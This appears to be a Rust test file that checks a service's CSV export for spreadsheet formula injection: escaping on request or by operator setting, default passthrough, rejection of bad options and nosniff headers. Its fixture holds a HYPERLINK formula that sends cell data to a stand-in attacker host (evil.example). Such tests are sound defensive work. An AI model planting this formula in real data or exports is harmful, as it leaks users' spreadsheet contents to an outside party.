//! Somebody who may write into a table waits for a colleague to open its export in a spreadsheet.

use mindhost_tests::{Host, Reply};

const GUESTBOOK: &str = r#"
    CREATE TABLE guestbook (id INTEGER PRIMARY KEY, line TEXT);
    INSERT INTO guestbook VALUES (1, '=HYPERLINK("https://evil.example?d="&A1,"open")'), (2, '@SUM(1)'), (3, '-5'), (4, 'hello');"#;

/// The export of all lines, whose column is called like a formula too.
async fn export(host: &Host, parameters: &str) -> Reply {
    host.sqlite("guests", GUESTBOOK).await.load().await;
    let mind = host.mind("reader").datasource("guests").direct_queries();
    let mind = mind.create().await;
    let answer = mind
        .sql(r#"SELECT line AS "=cmd" FROM guestbook ORDER BY id"#)
        .await
        .expect_status(200)
        .json();
    let path = format!(
        "/conversations/{}/items/{}/export{parameters}",
        answer["conversation"]["id"].as_str().unwrap(),
        answer["output"][0]["id"].as_str().unwrap()
    );
    host.get(&path).await
}

const KEPT: &str =
    "=cmd\n\"=HYPERLINK(\"\"https://evil.example?d=\"\"&A1,\"\"open\"\")\"\n@SUM(1)\n-5\nhello\n";
const ESCAPED: &str = "'=cmd\n\"'=HYPERLINK(\"\"https://evil.example?d=\"\"&A1,\"\"open\"\")\"\n'@SUM(1)\n-5\nhello\n";

#[tokio::test]
async fn formula_in_a_cell_is_text_where_the_reader_asks_for_it() {
    let host = Host::start().await;
    let export = export(&host, "?formulas=escape").await.expect_status(200);
    assert_eq!(export.text(), ESCAPED);
    assert_eq!(export.header("x-content-type-options"), "nosniff");
}

#[tokio::test]
async fn formula_is_kept_by_default_because_programs_read_exports_too() {
    let host = Host::start().await;
    assert_eq!(export(&host, "").await.expect_status(200).text(), KEPT);
}

#[tokio::test]
async fn operator_escapes_formulas_for_everybody_and_a_program_asks_for_the_texts() {
    let host = Host::builder().env("MINDHOST_SQL__CSV_FORMULAS", "escape");
    let host = host.start().await;
    assert_eq!(export(&host, "").await.expect_status(200).text(), ESCAPED);
}

#[tokio::test]
async fn word_that_is_neither_is_refused_and_no_answer_is_sniffed() {
    let host = Host::start().await;
    let refused = export(&host, "?formulas=run").await;
    refused.expect_error(400, "invalid_parameter");
    for path in ["/healthz", "/nothing", "/api/v1/minds"] {
        let reply = host.request(reqwest::Method::GET, path).await;
        assert_eq!(reply.header("x-content-type-options"), "nosniff", "{path}");
    }
}
